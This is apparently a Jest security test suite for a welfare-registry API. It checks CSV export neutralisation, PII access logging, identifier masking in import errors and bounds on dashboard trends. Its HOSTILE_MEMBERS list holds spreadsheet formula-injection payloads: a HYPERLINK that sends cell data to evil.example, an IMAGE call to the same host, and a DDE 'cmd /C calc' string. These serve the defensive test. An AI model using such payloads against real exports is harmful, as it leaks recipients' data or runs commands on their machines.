import { parse } from 'csv-parse/sync';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { DataSource } from 'typeorm';
import { seededRandom, syntheticKk, syntheticNik } from '@crm/testing';
import { REGISTRY_COLUMNS } from '@crm/registry';
import { formMember } from './support/application-form';
import { waitForTicket } from './support/intake-client';
import { expectErrorShape, startTestApi, TestApi } from './support/test-api';

/** Kelurahan where no other suite puts households on the prelist (exports here take only ours). */
const DURI_KOSAMBI = '31.73.01.1002';
const RAWA_BUAYA = '31.73.01.1003';
const CENGKARENG_BARAT = '31.73.01.1001';

/** What an operator could type into the application form: every way a cell may start a formula. */
const HOSTILE_MEMBERS = [
  { name: '=HYPERLINK("http://evil.example/x?"&D2,"Joko")', relation: 'Kepala Keluarga' },
  { name: "+cmd|' /C calc'!A0", relation: '=IMAGE("http://evil.example/i.png")' },
  { name: '-1+1', relation: '+Anak' },
  { name: '@SUM(1)', relation: '-Anak' },
  { name: '\tx', relation: '@Anak' },
  { name: '\rx', relation: 'Anak' },
];
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

type Row = Record<string, string>;

describe('security: Matriks 3 exports, the feedback and registry imports, the dashboard trend', () => {
  let api: TestApi;
  let db: DataSource;
  const random = seededRandom(20261124);
  const as = async (
    role: 'diskominfo' | 'operator' | 'verifier' | 'unit' | 'admin' | 'dashboard',
    unit = 'diskominfo',
  ) => ({
    Authorization: `Bearer ${await api.token(role, unit, role === 'operator' ? ['sms'] : undefined)}`,
  });

  beforeAll(async () => {
    api = await startTestApi();
    db = api.app.get(DataSource);
  });
  afterAll(() => api.close());

  /**
   * A household of `kelurahan` taken through the whole path to `layak` (eligible): complaint,
   * registry check, form, triage, the three verifications and the Musyawarah's decision.
   */
  async function eligibleHousehold(
    kelurahan: string,
    members: { name: string; relation: string }[] = [
      { name: 'Bapak Contoh', relation: 'Kepala Keluarga' },
      { name: 'Anak Contoh', relation: 'Anak' },
    ],
  ): Promise<{ entryId: string; niks: string[] }> {
    const niks = members.map((_, i) => syntheticNik(random, i === 0 ? 'L' : undefined));
    const entered = await api
      .http()
      .post('/api/v1/complaints')
      .set(await as('operator'))
      .send({
        channel: 'sms',
        details: { senderNumber: '081200000066' },
        reporter: { name: 'Warga', phone: '081200000066' },
        description: 'Keluarga kami belum terdata sebagai warga miskin',
        category: 'belum-terdata',
      })
      .expect(201);
    const id = entered.body.id as string;
    await waitForTicket(api, id, (t) => t.routedAt !== null);
    const diskominfo = await as('diskominfo');
    const step = (path: string, body: object) =>
      api.http().post(`/api/v1/complaints/${id}/${path}`).set(diskominfo).send(body).expect(200);
    await step('registry-check', { nik: niks[0] });
    await step('application', {
      kk: syntheticKk(random),
      address: 'Jl. Contoh Gg. 3 No. 7, RT 02/RW 05',
      kelurahanCode: kelurahan,
      monthlyExpenditure: 900_000,
      members: members.map((member, i) => ({ ...formMember(niks[i], member.relation), ...member })),
      conditions: [],
    });
    const triaged = await step('triage', { emergency: false, reason: 'Masuk prelist' });
    const entryId = triaged.body.prelistEntryId as string;
    for (const agency of ['dppapp', 'dinsos', 'disdukcapil']) {
      await api
        .http()
        .post(`/api/v1/prelist/${entryId}/verifications`)
        .set(await as('verifier', agency))
        .send({ result: 'ditemukan', note: 'Dikunjungi petugas' })
        .expect(200);
    }
    await api
      .http()
      .post(`/api/v1/prelist/${entryId}/muskel`)
      .set(diskominfo)
      .send({ eligible: true, note: 'Musyawarah: layak' })
      .expect(200);
    // The Musyawarah's result is verified again before it is sent (75/2023 §3.1.3.4.h).
    await api
      .http()
      .post(`/api/v1/prelist/${entryId}/verifications`)
      .set(await as('verifier', 'dinsos'))
      .send({ result: 'ditemukan', note: 'Diverifikasi ulang' })
      .expect(200);
    return { entryId, niks };
  }

  const currentExport = async (kelurahan: string) =>
    api
      .http()
      .get('/api/v1/prelist/export.csv')
      .query({ kelurahan })
      .set(await as('diskominfo'));
  const rowsOf = (csv: string): Row[] => parse(csv, { columns: true, bom: true });
  const statusOf = async (entryId: string) =>
    (
      (await db.query(`SELECT status FROM prelist_entries WHERE id = $1`, [entryId])) as {
        status: string;
      }[]
    )[0].status;

  describe('Matriks 3 (finding 2): no cell of the file starts a formula', () => {
    it('neutralises names and relations from the form, in the current export and in a batch', async () => {
      const { niks } = await eligibleHousehold(DURI_KOSAMBI, HOSTILE_MEMBERS);
      const current = await currentExport(DURI_KOSAMBI);
      expect(current.status).toBe(200);
      const made = await api
        .http()
        .post('/api/v1/prelist/exports')
        .set(await as('diskominfo'))
        .send({ kelurahan: DURI_KOSAMBI });
      expect(made.status).toBe(201);
      const batch = await api
        .http()
        .get(made.body.download as string)
        .set(await as('diskominfo'));
      expect(batch.status).toBe(200);
      for (const csv of [current.text, batch.text]) {
        const rows = rowsOf(csv);
        const household = rows.filter((row) => niks.includes(row.NIK));
        // The text is kept, behind an apostrophe that makes a spreadsheet show it as text.
        expect(household.map((row) => row.Nama)).toEqual(HOSTILE_MEMBERS.map((m) => `'${m.name}`));
        expect(household.map((row) => row['Hubungan dengan Kepala Keluarga'])).toEqual(
          HOSTILE_MEMBERS.map((m) =>
            FORMULA_START.test(m.relation) ? `'${m.relation}` : m.relation,
          ),
        );
        const formulas = rows.flatMap((row) =>
          Object.values(row).filter((cell) => FORMULA_START.test(cell)),
        );
        expect(formulas).toEqual([]);
      }
    });
  });

  describe('Matriks 3 export (findings 9 and 17): a read marks nothing; a batch is made by POST', () => {
    it('GET and HEAD of export.csv leave the households eligible, so they come again', async () => {
      const { entryId, niks } = await eligibleHousehold(RAWA_BUAYA);
      const diskominfo = await as('diskominfo');
      await api
        .http()
        .head('/api/v1/prelist/export.csv')
        .query({ kelurahan: RAWA_BUAYA })
        .set(diskominfo)
        .expect(200);
      const first = await currentExport(RAWA_BUAYA);
      const second = await currentExport(RAWA_BUAYA);
      for (const res of [first, second]) {
        expect(res.status).toBe(200);
        expect(res.text).toContain(niks[0]);
        expect(res.headers['cache-control']).toBe('no-store');
      }
      expect(await statusOf(entryId)).toBe('layak');
    });

    it('records in the access log which households a read of export.csv carried', async () => {
      const { entryId } = await eligibleHousehold(CENGKARENG_BARAT);
      const res = await currentExport(CENGKARENG_BARAT);
      expect(res.status).toBe(200);
      const rows: { subject: string; entry_ids: string[] }[] = await db.query(
        `SELECT subject, entry_ids FROM pii_access_log WHERE request_id = $1`,
        [res.headers['x-request-id']],
      );
      expect(rows).toEqual([{ subject: 'export', entry_ids: [entryId] }]);
    });

    it('makes a batch in one step, downloadable again and again, each download logged with its id', async () => {
      const { entryId, niks } = await eligibleHousehold(RAWA_BUAYA);
      const diskominfo = await as('diskominfo');
      const made = await api
        .http()
        .post('/api/v1/prelist/exports')
        .set(diskominfo)
        .send({ kelurahan: RAWA_BUAYA });
      expect(made.status).toBe(201);
      const id = made.body.id as string;
      expect(made.body).toEqual({
        id: expect.stringMatching(/^[0-9a-f-]{36}$/),
        kelurahan: RAWA_BUAYA,
        // This suite's two Rawa Buaya households: the one the reads above left eligible, and this.
        entries: 2,
        entryIds: expect.arrayContaining([entryId]),
        createdAt: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T/),
        createdBy: expect.stringMatching(/^test-diskominfo-/),
        download: `/api/v1/prelist/exports/${id}.csv`,
      });
      expect(made.body.entryIds).toHaveLength(2);
      expect(await statusOf(entryId)).toBe('dikirim');
      const [batch]: { entry_ids: string[] }[] = await db.query(
        `SELECT entry_ids FROM prelist_exports WHERE id = $1`,
        [id],
      );
      expect([...batch.entry_ids].sort()).toEqual([...made.body.entryIds].sort());

      // Sent households are no longer eligible: a second batch of the kelurahan is empty.
      expect((await currentExport(RAWA_BUAYA)).text).not.toContain(niks[0]);
      const empty = await api
        .http()
        .post('/api/v1/prelist/exports')
        .set(diskominfo)
        .send({ kelurahan: RAWA_BUAYA });
      expect(empty.status).toBe(201);
      expect(empty.body).toMatchObject({ entries: 0, entryIds: [] });

      // The batch downloads again, the same households every time, never cached.
      const downloads = [];
      for (let i = 0; i < 2; i++) {
        const res = await api.http().get(`/api/v1/prelist/exports/${id}.csv`).set(diskominfo);
        expect(res.status).toBe(200);
        expect(res.headers['content-type']).toContain('text/csv');
        expect(res.headers['cache-control']).toBe('no-store');
        expect(res.headers['content-disposition']).toContain(`${id}.csv`);
        downloads.push(res);
      }
      expect(downloads[1].text).toBe(downloads[0].text);
      expect(rowsOf(downloads[0].text).map((row) => row.NIK)).toEqual(expect.arrayContaining(niks));
      const logged: { subject_id: string; entry_ids: string[] }[] = await db.query(
        `SELECT subject_id, entry_ids FROM pii_access_log WHERE request_id = ANY ($1)`,
        [downloads.map((res) => res.headers['x-request-id'])],
      );
      expect(logged).toHaveLength(2);
      for (const row of logged) {
        expect(row.subject_id).toBe(id);
        expect([...row.entry_ids].sort()).toEqual([...made.body.entryIds].sort());
      }
      const log = await api
        .http()
        .get('/api/v1/pii/access-log?limit=200')
        .set(await as('admin'));
      expect(log.body.data.filter((row: { subjectId: string }) => row.subjectId === id)).toEqual([
        expect.objectContaining({ subject: 'export', field: 'nik', role: 'diskominfo' }),
        expect.objectContaining({ subject: 'export', field: 'nik', role: 'diskominfo' }),
      ]);

      // Listed, newest first, paged like every list.
      const list = await api.http().get('/api/v1/prelist/exports?limit=2').set(diskominfo);
      expect(list.status).toBe(200);
      expect(list.body.meta).toMatchObject({ page: 1, limit: 2 });
      expect(list.body.meta.total).toBeGreaterThanOrEqual(2);
      expect(list.body.data.map((b: { id: string }) => b.id)).toEqual([empty.body.id, id]);
      expect(list.body.data[1]).toEqual(made.body);
    });

    it('answers an unknown batch with 404, a malformed id with 400, other roles with 403', async () => {
      const diskominfo = await as('diskominfo');
      const unknown = await api
        .http()
        .get('/api/v1/prelist/exports/00000000-0000-4000-8000-000000000000.csv')
        .set(diskominfo);
      expectErrorShape(unknown.body, 404);
      const malformed = await api.http().get('/api/v1/prelist/exports/1.csv').set(diskominfo);
      expectErrorShape(malformed.body, 400, 'VALIDATION_FAILED');
      const badKelurahan = await api
        .http()
        .post('/api/v1/prelist/exports')
        .set(diskominfo)
        .send({ kelurahan: '31.99.99.9999' });
      expectErrorShape(badKelurahan.body, 400, 'VALIDATION_FAILED');
      for (const role of ['unit', 'verifier', 'admin'] as const) {
        const res = await api
          .http()
          .post('/api/v1/prelist/exports')
          .set(await as(role, role === 'unit' ? RAWA_BUAYA : 'dinsos'))
          .send({ kelurahan: RAWA_BUAYA });
        expectErrorShape(res.body, 403);
      }
    });

    it('sends the revealed value with Cache-Control: no-store too', async () => {
      const { entryId, niks } = await eligibleHousehold(CENGKARENG_BARAT);
      const res = await api
        .http()
        .post('/api/v1/pii/reveal')
        .set(await as('diskominfo'))
        .send({ subject: 'prelist', id: entryId, field: 'nik', reason: 'Verifikasi lapangan' });
      expect(res.status).toBe(200);
      expect(res.body.value).toBe(niks[0]);
      expect(res.headers['cache-control']).toBe('no-store');
    });
  });

  describe('feedback import (finding 16)', () => {
    const upload = async (csv: string | Buffer) =>
      api
        .http()
        .post('/api/v1/prelist/feedback')
        .set(await as('diskominfo'))
        .attach('file', Buffer.from(csv), { filename: 'balikan.csv', contentType: 'text/csv' });

    it('reads 10 MB without holding the event loop, and answers with a bounded rejection list', async () => {
      const line = '3171010501900000,Ya\n'; // the serial 0000: rejected
      const rows = Math.ceil((10 * 1024 ** 2) / line.length);
      const csv = `nik,ditetapkan\n${line.repeat(rows)}`;
      const delay = monitorEventLoopDelay({ resolution: 10 });
      delay.enable();
      const res = await upload(csv);
      delay.disable();
      // Other requests are served meanwhile: no single stretch of work held the loop for long.
      // Parsed at once, the file held it 16 s on the 2-core test machine; a chunk at a time, 0.2 s
      // alone and up to about 1 s while the fuzz suite shares the cores. 3 s tells them apart.
      expect(delay.max / 1e6).toBeLessThan(3_000);
      expect(res.status).toBe(200);
      expect(res.text.length).toBeLessThan(32 * 1024);
      expect(res.body.updated).toBe(0);
      expect(res.body.rejectedCount).toBe(rows);
      expect(res.body.rejected).toHaveLength(100);
      expect(res.body.rejected[0]).toEqual({ line: 2, reason: expect.stringContaining('serial') });
      expect(res.body.rejected[99].line).toBe(101);
    });

    it('applies the decisions of sent households, and rejects repeats and unknown heads by line', async () => {
      const set = await eligibleHousehold(CENGKARENG_BARAT);
      const notSet = await eligibleHousehold(CENGKARENG_BARAT);
      await api
        .http()
        .post('/api/v1/prelist/exports')
        .set(await as('diskominfo'))
        .send({ kelurahan: CENGKARENG_BARAT })
        .expect(201);
      const unknown = syntheticNik(random);
      const res = await upload(
        [
          'NIK,Ditetapkan',
          `${set.niks[0]},Ya`,
          `${notSet.niks[0]},tidak`,
          `${set.niks[0]},Ya`,
          `${unknown},Ya`,
          `${set.niks[1]},Mungkin`,
        ].join('\r\n'),
      );
      expect(res.status).toBe(200);
      expect(res.body).toEqual({
        updated: 2,
        rejectedCount: 3,
        rejected: [
          { line: 4, reason: expect.stringContaining('no prelist entry sent for ranking') },
          { line: 5, reason: expect.stringContaining('no prelist entry sent for ranking') },
          { line: 6, reason: 'ditetapkan: must be Ya or Tidak' },
        ],
      });
      expect(await statusOf(set.entryId)).toBe('ditetapkan');
      expect(await statusOf(notSet.entryId)).toBe('tidak_layak');
    });

    it('refuses a file without the nik and ditetapkan columns, without echoing its first line', async () => {
      const nik = syntheticNik(random);
      const res = await upload(`${nik},Ya\n`);
      expectErrorShape(res.body, 400, 'FEEDBACK_HEADER');
      expect(res.body.message).toContain('nik,ditetapkan');
      expect(res.text).not.toContain(nik);
    });
  });

  describe('registry import (finding 16): a reason never echoes a full NIK or KK number', () => {
    const upload = async (csv: string) =>
      api
        .http()
        .post('/api/v1/registry/imports')
        .set(await as('admin'))
        .attach('file', Buffer.from(csv), { filename: 'p3ke.csv', contentType: 'text/csv' });
    const person = (nik: string, kk: string, kelurahan = '31.71.01.1001') =>
      ['P3KE-SEC-F1', `P3KE-SEC-${nik.slice(-6)}`, nik, kk, 'Budi Contoh', 'L', 'Kepala Keluarga']
        .concat([kelurahan, '1', '', ''])
        .join(',');

    it('in the header error of a file that starts with a person', async () => {
      const nik = syntheticNik(random, 'L');
      const kk = syntheticKk(random);
      const res = await upload(`${person(nik, kk)}\n`);
      expectErrorShape(res.body, 400, 'REGISTRY_HEADER');
      expect(res.body.message).toContain(REGISTRY_COLUMNS.join(','));
      expect(res.text).not.toContain(nik);
      expect(res.text).not.toContain(kk);
    });

    it('in the reasons of rows whose columns slipped or whose quotes are broken', async () => {
      const [nik1, nik2, nik3, nik4] = [1, 2, 3, 4].map(() => syntheticNik(random, 'L'));
      const [kk1, kk2, kk3] = [1, 2, 3].map(() => syntheticKk(random));
      const spaced = kk1.replace(/(\d{4})(?=\d)/g, '$1 ');
      const res = await upload(
        [
          REGISTRY_COLUMNS.join(','),
          person(nik1, kk1, nik2), // a NIK where the kelurahan code belongs
          person(nik3, kk2).replace(nik3, `${nik3}"x"`), // a quote inside a field
          person(nik4, kk3, spaced), // a KK number, written with spaces, as the kelurahan code
        ].join('\n'),
      );
      expect(res.status).toBe(201);
      expect(res.body.rejectedCount).toBe(3);
      expect(res.body.rejected.map((r: { line: number }) => r.line)).toEqual([2, 3, 4]);
      for (const secret of [nik1, nik2, nik3, nik4, kk1, kk2, kk3, spaced])
        expect(res.text).not.toContain(secret);
      // Still a reason an operator can act on: the field, and the number masked.
      expect(res.body.rejected[0].reason).toContain('kelurahan_code');
      expect(res.body.rejected[1].reason).toContain(`${nik3.slice(0, 4)}********${nik3.slice(12)}`);
    });
  });

  describe('dashboard trend (finding 16): a bounded number of points', () => {
    const summary = async (query: Record<string, string>) =>
      api
        .http()
        .get('/api/v1/dashboard/summary')
        .query(query)
        .set(await as('dashboard'));

    it('refuses a daily trend over 135 years with 400 saying what is allowed', async () => {
      const res = await summary({ interval: 'day', from: '1970-01-02', to: '2105-12-31' });
      expectErrorShape(res.body, 400, 'VALIDATION_FAILED');
      expect(res.body.message).toBe(
        'The trend covers at most 1,000 days by day; 1970-01-02 to 2105-12-31 is 49,672 days: ' +
          'ask for interval=week or a shorter range (from, to)',
      );
      expect(res.text.length).toBeLessThan(2_000);
    });

    it('refuses a weekly trend of more than 1,000 weeks, and draws one of 1,000', async () => {
      const long = await summary({ from: '1970-01-02', to: '2105-12-31' });
      expectErrorShape(long.body, 400, 'VALIDATION_FAILED');
      expect(long.body.message).toMatch(/at most 1,000 weeks/);
      // 1,000 weeks from Monday 2007-01-01: the last one starts on Monday 2026-02-23.
      const longest = await summary({ from: '2007-01-01', to: '2026-03-01' });
      expect(longest.status).toBe(200);
      expect(longest.body.trend.interval).toBe('week');
      expect(longest.body.trend.points).toHaveLength(1_000);
      expect(longest.text.length).toBeLessThan(100 * 1024);
    });
  });
});
